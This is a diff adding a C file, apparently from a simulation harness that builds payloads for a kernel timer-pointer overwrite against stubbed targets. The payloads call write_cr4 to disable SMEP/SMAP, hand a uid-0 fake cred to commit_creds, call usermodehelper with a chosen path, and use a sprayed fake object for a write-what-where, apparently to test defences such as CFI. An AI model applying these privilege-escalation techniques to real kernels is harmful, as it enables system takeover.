@@ -1,0 +1,158 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * Payloads (DESIGN.md table): what the overwrite points .function (and
+ * .data) at. The attacker knows every code address (KASLR defeated by a
+ * leak) and writes them as bytes: an address becomes data here, it is never
+ * cast to a function type and never called by the attacker. Only the wheel
+ * calls it, through call_timer_fn().
+ */
+#include "attack.h"
+
+#include <stdio.h>
+#include <string.h>
+
+#include "slab.h"
+
+static uintptr_t code_addr_write_cr4(void)
+{
+	return (uintptr_t)&write_cr4;
+}
+
+static void set_function(struct th_plan *plan, uintptr_t fn, const char *name)
+{
+	plan->img.timer.function = fn;
+	plan->sets_function = 1;
+	plan->goal.has_function = 1;
+	plan->goal.function = fn;
+	plan->reach = ATK_OFF_FUNCTION + sizeof(plan->img.timer.function);
+	snprintf(plan->what, sizeof(plan->what), ".function = %s (0x%lx)", name,
+		 (unsigned long)fn);
+}
+
+#if TH_ATK_HAS_DATA
+static void set_data(struct th_plan *plan, unsigned long data, const char *name)
+{
+	size_t len = strlen(plan->what);
+
+	plan->img.timer.data = data;
+	plan->sets_data = 1;
+	plan->goal.has_data = 1;
+	plan->goal.data = data;
+	plan->reach = ATK_OFF_DATA + sizeof(plan->img.timer.data);
+	snprintf(plan->what + len, sizeof(plan->what) - len, "%s.data = %s (0x%lx)",
+		 len ? ", " : "", name, data);
+}
+#endif
+
+/* Bytes in name that the target will read through the ring pointer (legacy
+ * .data = the ring): a fake cred, or a path. Pointless on the other
+ * variants (their argument is the timer), where the attacker tries anyway. */
+static void plant(struct th_plan *plan, const void *bytes, size_t n, const char *what)
+{
+	size_t len = strlen(plan->what);
+
+	memset(plan->img.name, 0, sizeof(plan->img.name));
+	memcpy(plan->img.name, bytes, n);
+	plan->plant_len = n;
+	plan->goal.has_name = 1;
+	memcpy(plan->goal.name, bytes, n);
+	plan->goal.name_len = n;
+	snprintf(plan->what + len, sizeof(plan->what) - len, ", name = %s", what);
+}
+
+int th_payload_prepare(struct th_plan *plan, enum th_payload p)
+{
+	memset(plan, 0, sizeof(*plan));
+	plan->payload = p;
+	memset(&th_intent, 0, sizeof(th_intent));
+#if TH_ATK_HAS_DATA
+	if (p == TH_PAYLOAD_DATA_FAKE_OBJECT) {
+		struct atk_ring fake;
+
+		/* A ring whose cur_block is the attacker's own cred uid: the
+		 * callback's "block_status = TP_STATUS_KERNEL" becomes
+		 * "current_cred.uid = 0", a write-what-where. */
+		memset(&fake, 0, sizeof(fake));
+		memcpy(fake.name, "fake", 5);
+		fake.cur_block = (uintptr_t)&current_cred + offsetof(struct atk_cred, uid);
+		plan->fake = (uintptr_t)spray_alloc(&fake, sizeof(fake));
+		if (!plan->fake)
+			return -1;
+		th_emit("TH-NOTE: sprayed a fake ring at 0x%lx (address leaked): cur_block = &current_cred.uid",
+			(unsigned long)plan->fake);
+	}
+#endif
+	return 0;
+}
+
+void th_payload_build(struct th_plan *plan, const struct atk_ring *base)
+{
+	plan->img = *base;
+	plan->goal.control = plan->payload == TH_PAYLOAD_NONE;
+
+	switch (plan->payload) {
+	case TH_PAYLOAD_NONE:
+		snprintf(plan->what, sizeof(plan->what), "nothing (control run)");
+		break;
+	case TH_PAYLOAD_FUNC_DATA_WRITE_CR4:
+#if TH_ATK_HAS_DATA
+		set_function(plan, code_addr_write_cr4(), "write_cr4");
+		set_data(plan, TH_CR4_CHOSEN, "CR4 without SMEP/SMAP");
+		th_intent.kind = TH_INTENT_VALUE;
+		th_intent.value = TH_CR4_CHOSEN;
+#endif
+		break;
+	case TH_PAYLOAD_FUNC_WRITE_CR4:
+		/* .data untouched (or absent): the attacker chooses no argument. */
+		set_function(plan, code_addr_write_cr4(), "write_cr4");
+		break;
+	case TH_PAYLOAD_FUNC_SAME_CLASS:
+		set_function(plan, (uintptr_t)&ring_force_close, "ring_force_close");
+		break;
+	case TH_PAYLOAD_FUNC_PTR_CLASS: {
+		struct atk_cred fake = { .usage = TH_FAKE_CRED_USAGE, .uid = 0, .gid = 0, .euid = 0 };
+
+		set_function(plan, (uintptr_t)&commit_creds_stub, "commit_creds_stub");
+		plant(plan, &fake, sizeof(fake), "a fake cred (uid 0)");
+		th_intent.kind = TH_INTENT_CRED;
+		th_intent.cred.usage = fake.usage;
+		th_intent.cred.uid = fake.uid;
+		th_intent.cred.gid = fake.gid;
+		th_intent.cred.euid = fake.euid;
+		break;
+	}
+	case TH_PAYLOAD_FUNC_OTHER_PROTO:
+		set_function(plan, (uintptr_t)&call_usermodehelper_stub, "call_usermodehelper_stub");
+		plant(plan, TH_CHOSEN_PATH, sizeof(TH_CHOSEN_PATH), "\"" TH_CHOSEN_PATH "\"");
+		th_intent.kind = TH_INTENT_STRING;
+		snprintf(th_intent.string, sizeof(th_intent.string), "%s", TH_CHOSEN_PATH);
+		break;
+	case TH_PAYLOAD_FUNC_MID_FUNCTION:
+		/* Inside write_cr4's body. Under cfi-icall &write_cr4 is its
+		 * jump-table slot, so this is the middle of that slot's jmp. */
+		set_function(plan, code_addr_write_cr4() + 4, "write_cr4+4");
+		break;
+	case TH_PAYLOAD_FUNC_DATA_ADDRESS:
+		set_function(plan, (uintptr_t)&sim_cpu, "&sim_cpu (a data object)");
+		break;
+	case TH_PAYLOAD_DATA_FAKE_OBJECT:
+#if TH_ATK_HAS_DATA
+	{
+		/* legacy: .data is the ring; rc3 shim: .data is the ring's timer. */
+#if defined(TH_ATK_TRANSITIONAL)
+		unsigned long data = plan->fake + ATK_OFF_TIMER;
+#else
+		unsigned long data = plan->fake;
+#endif
+		/* A linear write passes .function: it keeps the legitimate one. */
+		plan->img.timer.function = (uintptr_t)&prb_retire_rx_blk_timer_expired;
+		set_data(plan, data, "the fake ring");
+		th_intent.kind = TH_INTENT_VALUE;
+		th_intent.value = data;
+	}
+#endif
+		break;
+	case TH_PAYLOAD_COUNT:
+		break;
+	}
+}
